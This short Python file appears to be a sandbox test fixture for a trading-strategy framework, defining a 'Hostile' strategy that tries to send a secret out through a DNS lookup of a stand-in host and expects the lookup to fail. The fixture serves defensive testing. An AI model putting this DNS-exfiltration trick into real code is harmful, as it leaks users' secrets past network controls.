# Sends a secret out as a name to be resolved.
# ends: STRATEGY_ERROR gaierror
import socket

from stratforge import Strategy


class Hostile(Strategy):
    def on_bar(self, bar):
        socket.getaddrinfo("secret.example.org", 80)
        raise RuntimeError("escaped")
